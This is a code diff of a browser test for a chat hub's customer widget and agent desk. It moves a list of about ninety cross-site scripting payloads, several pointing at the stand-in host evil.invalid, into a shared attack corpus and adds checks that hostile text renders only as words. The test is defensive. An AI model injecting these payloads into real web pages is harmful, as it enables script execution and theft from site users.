@@ -13,113 +13,26 @@ from dataclasses import replace
 from pathlib import Path
 
 import aiohttp
+import pytest
 import pytest_asyncio
-from playwright.async_api import Browser, Frame, Page, expect
+from playwright.async_api import Browser, Frame, Page, StorageState, expect
 
 from bot.contract import BotStatus, Button, Handoff, HandoffReason, Reply, Say, Turn
 from hub.model.ids import InboxId, new_id
 from hub.store.database import connect
 from hub.store.embedded import Mongod
-from tests.browser.fixtures import BROWSER
+from hub.up.browser_parts import build
+from tests.attacks.corpus import EVERYTHING, EVIL, PAYLOADS, plain
+from tests.browser.fixtures import BROWSER, missing
 from tests.browser.people import Agent
-from tests.browser.stack import prepare
+from tests.browser.stack import ROOT, cache
 from tests.hub_server import AbsentBot, LiveHub, live_hub
 
 pytestmark = BROWSER
-EVIL = "https://evil.invalid/x"
-PAYLOADS = (
-    "<script>pwned()</script>",
-    "<ScRiPt/x>pwned()</sCrIpT>",
-    "<scr<script>ipt>pwned()</scr</script>ipt>",
-    f"<script src={EVIL}></script>",
-    "</script><script>pwned()</script>",
-    "</textarea><script>pwned()</script>",
-    "</title><script>pwned()</script>",
-    "</style><script>pwned()</script>",
-    "--><script>pwned()</script><!--",
-    "<!--><script>pwned()</script>-->",
-    "]]><script>pwned()</script>",
-    "'\"><script>pwned()</script>",
-    "<img src=x onerror=pwned()>",
-    f"<img src={EVIL}>",
-    f"<img srcset='{EVIL} 1x'>",
-    "<img src=`x`onerror=pwned()>",
-    "<img/src=x/onerror=pwned()//",
-    "<image href=x onerror=pwned()>",
-    "\"'><img src=x onerror=pwned()>",
-    "<svg onload=pwned()>",
-    "<svg/onload=pwned()>",
-    "<svg><script>pwned()</script></svg>",
-    "<svg><animate onbegin=pwned() attributeName=x dur=1s>",
-    f"<svg><image href='{EVIL}'/></svg>",
-    f"<svg><use href='{EVIL}#x'/></svg>",
-    "<svg><a xlink:href=javascript:pwned()><text>x</text></a></svg>",
-    "<svg><foreignObject><iframe srcdoc='<script>parent.pwned()</script>'></foreignObject></svg>",
-    "<math><mtext></mtext><mglyph><style><img src=x onerror=pwned()></style></mglyph></math>",
-    "<math href=javascript:pwned()>x</math>",
-    "<math><mi//xlink:href='data:x,<script>pwned()</script>'>",
-    '<noscript><p title="</noscript><img src=x onerror=pwned()>">',
-    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=pwned()>",
-    "<table><td><svg><desc><td><img src=x onerror=pwned()>",
-    "<iframe srcdoc='<script>parent.pwned()</script>'></iframe>",
-    "<iframe src=javascript:pwned()></iframe>",
-    f"<iframe src={EVIL}></iframe>",
-    "<object data=javascript:pwned()></object>",
-    f"<embed src={EVIL}>",
-    "<a href=javascript:pwned()>click</a>",
-    "<a href=' &#x6A;avascript:pwned()'>click</a>",
-    "javascript:pwned()",
-    "JaVaScRiPt\t:pwned()",
-    "java\nscript:pwned()",
-    "data:text/html,<script>pwned()</script>",
-    "data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+",
-    "vbscript:pwned()",
-    "[x](javascript:pwned())",
-    f"![x]({EVIL})",
-    f"<style>@import '{EVIL}';</style>",
-    f"<style>*{{background:url({EVIL})}}</style>",
-    f"<div style='background:url({EVIL})'>x</div>",
-    "<div style='width:expression(pwned())'>x</div>",
-    f"<link rel=stylesheet href={EVIL}>",
-    f"<link rel=prefetch href={EVIL}>",
-    "<base href=https://evil.invalid/>",
-    f"<meta http-equiv=refresh content='0;url={EVIL}'>",
-    f"<form action={EVIL}><input name=a><button autofocus onfocus=pwned()></form>",
-    "<form id=app><input name=innerHTML></form>",
-    "<input id=composer name=body autofocus onfocus=pwned()>",
-    "<a id=peyk-config name=textContent href=x>",
-    "<details open ontoggle=pwned()>x</details>",
-    "<video autoplay><source onerror=pwned()></video>",
-    f"<audio src={EVIL} autoplay onerror=pwned()>",
-    f"<video poster={EVIL}></video>",
-    "<body onload=pwned()>",
-    "<marquee onstart=pwned()>x</marquee>",
-    "<x contenteditable onblur=pwned() tabindex=1 id=x autofocus>",
-    "<template><script>pwned()</script></template>",
-    "<slot onslotchange=pwned()>",
-    "<portal src=javascript:pwned()>",
-    "{{constructor.constructor('pwned()')()}}",
-    "${pwned()}",
-    "#{pwned()}",
-    "<%= pwned() %>",
-    "\u202e<script>)(denwp</script>",
-    "\u2066\u202egnp.exe\u2069.png",
-    "\ufeff<script>pwned()</script>",
-    "＜script＞pwned()＜/script＞",
-    "+ADw-script+AD4-pwned()+ADw-/script+AD4-",
-    "%3Cscript%3Epwned()%3C/script%3E",
-    "&lt;script&gt;pwned()&lt;/script&gt;",
-    "\\x3cscript\\x3epwned()\\x3c/script\\x3e",
-    'https://evil.invalid/"onmouseover=pwned()//',
-    "https://evil.invalid/<img src=x onerror=pwned()>",
-    "https://user:pass@evil.invalid/%0d%0aSet-Cookie:x=1",
-    "__proto__",
-    "constructor",
-    "[object Object]",
-    '{"type":"entry","author":"agent","text":"<script>pwned()</script>"}',
-)
 NAMES = [one for one in PAYLOADS if len(one) < 60][:8]
-FILE_NAMES = [one.replace("/", "∕") for one in PAYLOADS if "\n" not in one and "\t" not in one][:12]
+FILE_NAMES = [one.replace("/", "∕") for one in PAYLOADS if "\n" not in one and "\t" not in one][:10]
+TYPED = PAYLOADS[::16]
+AT_ONCE = 5
 WATCH = """
 window.peykViolations = [];
 document.addEventListener("securitypolicyviolation", it =>
@@ -128,6 +41,16 @@ document.addEventListener("securitypolicyviolation", it =>
 TELLTALE = "script,iframe,object,embed,base,meta,link,style,math,video,audio,template,marquee,[onerror],[onload]"
 MADE = """([boxes, telltale]) => [...document.querySelectorAll(boxes)].flatMap(box =>
   [...box.querySelectorAll(telltale)].map(it => it.outerHTML.slice(0, 120)))"""
+
+BACK_TO_THE_BEGINNING = """async ([box, more, begin]) => {
+  const there = () => begin ? document.querySelector(more)?.textContent === begin : !document.querySelector(more);
+  for (let n = 0; !there(); n++) {
+    if (n > 3000) throw new Error("there is always more");
+    document.querySelector(box).scrollTop = n % 2;
+    document.querySelector(more)?.click();
+    await new Promise(done => setTimeout(done, 20));
+  }
+}"""
 
 
 class Echo(AbsentBot):
@@ -146,10 +69,18 @@ class Echo(AbsentBot):
         return BotStatus(available=True, detail="ok")
 
 
+@pytest.fixture(scope="session")
+def browser_parts() -> None:
+    """The built browser parts; all this needs of what `prepare` of the stack makes."""
+    try:
+        build(ROOT / "widget", cache() / "tools", cache() / "logs", lambda _: None)
+    except (RuntimeError, OSError) as error:
+        missing(error)
+
+
 @pytest_asyncio.fixture(loop_scope="session")
-async def echoing(mongod_server: Mongod, tmp_path: Path) -> AsyncIterator[LiveHub]:
+async def echoing(mongod_server: Mongod, browser_parts: None, tmp_path: Path) -> AsyncIterator[LiveHub]:
     """A whole hub with the echoing bot."""
-    await asyncio.to_thread(prepare)
     name = "t" + "".join(letter for letter in new_id().lower() if letter.isalnum())
     async with connect(mongod_server.uri, name) as database:
         async with live_hub(database, tmp_path / "var", bot=Echo()) as running:
@@ -181,35 +112,17 @@ async def nothing_happened(place: Page | Frame, caught: list[str], words: str) -
 
 
 async def test_i03_hostile_words_stay_words_everywhere(echoing: LiveHub, browser: Browser) -> None:
-    assert len(PAYLOADS) >= 60
+    assert len(EVERYTHING) >= 200
     await _names_and_canned(echoing)
-    context = await browser.new_context(reduced_motion="reduce")
+    session, conversation = await _everything_is_said(echoing)
+    context = await browser.new_context(reduced_motion="reduce", storage_state=_kept(echoing.url, session))
     try:
         chat, desk = await context.new_page(), await context.new_page()
         caught = [*[await trapped(page, echoing.url) for page in (chat, desk)]]
         await chat.goto(f"{echoing.url}/chat/shop/app?locale=fa")
-        for payload in PAYLOADS:
-            await chat.locator("#composer").fill(payload)
-            await chat.keyboard.press("Enter")
-            await expect(chat.locator("#composer")).to_have_value("")
-        for name in FILE_NAMES:
-            file = {"name": name + ".txt", "mimeType": "text/plain", "buffer": b"nothing"}
-            await chat.locator("input[type=file]").set_input_files(file)  # type: ignore[arg-type]
-            await chat.locator(".composer button[type=submit]").click()
-        await chat.locator("#composer").fill("person")
-        await chat.keyboard.press("Enter")
-        await expect(chat.locator("form.form")).to_be_visible(timeout=120_000)
-        await expect(chat.locator(".row.sending")).to_have_count(0)
-        for payload in (PAYLOADS[0], PAYLOADS[12], PAYLOADS[-1]):
-            await expect(chat.locator(".row.mine .bubble", has_text=payload).first).to_be_visible()
-        await chat.locator("#form-name").fill(PAYLOADS[12])
-        await chat.locator("#form-email").fill("<svg/onload=pwned()>@example.com")
-        await chat.locator("#form-message").fill("\n".join(PAYLOADS[:20]))
-        await chat.locator("form.form button[type=submit]").click()
-        await chat.mouse.wheel(0, -30_000)
+        await _in_the_chat(chat)
         await nothing_happened(chat, caught[0], ".log")
-
-        await _at_the_desk(echoing, desk)
+        await _at_the_desk(echoing, desk, conversation)
         await nothing_happened(desk, caught[1], ".timeline, .list, .card")
         await chat.reload()
         await expect(chat.locator(".row.theirs").last).to_be_visible()
@@ -218,32 +131,90 @@ async def test_i03_hostile_words_stay_words_everywhere(echoing: LiveHub, browser
         await context.close()
 
 
-async def _at_the_desk(hub: LiveHub, page: Page) -> None:
+async def _in_the_chat(page: Page) -> None:
+    """Everything that was said is there; some more is typed, files are sent, the form is filled."""
+    await expect(page.locator(".row.mine").last).to_be_visible()
+    await page.evaluate(BACK_TO_THE_BEGINNING, [".log", ".older", ""])
+    for side in (".row.mine .bubble", ".row.theirs .bubble"):
+        await all_words_stand_there(page, side)
+    for payload in TYPED:
+        await page.locator("#composer").fill(payload)
+        await page.keyboard.press("Enter")
+        await expect(page.locator("#composer")).to_have_value("")
+    for start in range(0, len(FILE_NAMES), AT_ONCE):
+        names = FILE_NAMES[start : start + AT_ONCE]
+        files = [{"name": f"{name}.txt", "mimeType": "text/plain", "buffer": b"nothing"} for name in names]
+        await page.locator("input[type=file]").set_input_files(files)  # type: ignore[arg-type]
+        await expect(page.locator(".tray li")).to_have_count(len(names))
+        await page.locator(".composer button[type=submit]").click()
+    await page.locator("#composer").fill("person")
+    await page.keyboard.press("Enter")
+    await expect(page.locator("form.form")).to_be_visible(timeout=60_000)
+    await expect(page.locator(".row.sending")).to_have_count(0, timeout=60_000)
+    await page.locator("#form-name").fill(PAYLOADS[12])
+    await page.locator("#form-email").fill("<svg/onload=pwned()>@example.com")
+    await page.locator("#form-message").fill("\n".join(PAYLOADS[:20]))
+    await page.locator("form.form button[type=submit]").click()
+
+
+async def all_words_stand_there(page: Page, bubbles: str) -> None:
+    """Each payload is read in some bubble, letter by letter."""
+    shown = "\n".join(plain(words) for words in await page.locator(bubbles).all_text_contents())
+    assert not [words for words in EVERYTHING if plain(words) not in shown]
+
+
+async def _at_the_desk(hub: LiveHub, page: Page, conversation: str) -> None:
     """Look at everything that a customer can have a hand in."""
     agent = Agent(page, hub.url, "ali")
     await agent.sign_in(hub.passwords["ali"])
     await expect(page.locator(".face-button")).to_be_visible()
     await agent.online()
     await agent.accept()
-    for _ in range(12):  # through the whole conversation, page by page
-        await page.locator(".timeline").hover()
-        await page.mouse.wheel(0, -20_000)
-        if await page.locator(".timeline .older", has_text="آغاز").count():
-            break
     await agent.composer.fill("/hostile")
     await expect(page.locator(".complete-item").first).to_be_visible()
     await agent.key("Enter")
     await agent.key("Control+Enter")
-    await agent.away_from_fields()
-    await agent.key("g")
-    await agent.key("q")
+    await agent.go("q")
     await expect(agent.rows.first).to_be_visible()
     for number in range(min(4, await agent.rows.count())):
         await agent.rows.nth(number).click()
         await expect(page.locator(".pane-title")).to_be_visible()
-    await agent.key("t") if await page.locator(".pane-owner.is-mine").count() else None
+    await page.goto(f"{hub.url}/desk/c/{conversation}")
+    await expect(page.locator(".timeline .bubble").last).to_be_visible()
+    await page.evaluate(BACK_TO_THE_BEGINNING, [".timeline", ".timeline .older", "گفتگو از این‌جا شروع شد"])
+    await all_words_stand_there(page, ".timeline .bubble")
     await agent.key("Control+k")
     await expect(agent.dialog).to_be_visible()
+
+
+async def _everything_is_said(hub: LiveHub) -> tuple[dict[str, object], str]:
+    """A visitor says everything, as fast as it goes.
+
+    Returns the session with which a browser is this visitor, and the conversation.
+    """
+    async with hub.browser() as visitor:
+        session: dict[str, object] = (await visitor.call("POST", "/chat/shop/session", {})).json
+        headers = {"Origin": hub.url}
+        async with visitor.session.ws_connect(f"{hub.url}/chat/shop/socket", headers=headers) as ws:
+            await ws.send_json({"type": "hello", "token": session["access"]})
+            for number, words in enumerate(EVERYTHING):
+                await ws.send_json({"type": "send", "id": number, "client_id": new_id(), "text": words})
+            echoes: list[str] = []
+            answered: list[str] = []
+            async with asyncio.timeout(120):
+                while len(answered) < len(EVERYTHING) or plain(EVERYTHING[-1]) not in echoes:
+                    frame = await ws.receive_json()
+                    assert frame["type"] != "error", frame
+                    answered += [frame["data"]["conversation"]] if frame["type"] == "result" else []
+                    if frame["type"] == "entry" and frame["entry"]["author"] == "bot":
+                        echoes += [plain(part["text"]) for part in frame["entry"]["parts"] if "text" in part]
+    return session, answered[0]
+
+
+def _kept(url: str, session: dict[str, object]) -> StorageState:
+    """The storage of a browser that has been here with this session."""
+    kept = {"name": "peyk:shop:visitor", "value": json.dumps(session)}
+    return {"cookies": [], "origins": [{"origin": url, "localStorage": [kept]}]}
 
 
 async def _names_and_canned(hub: LiveHub) -> None:
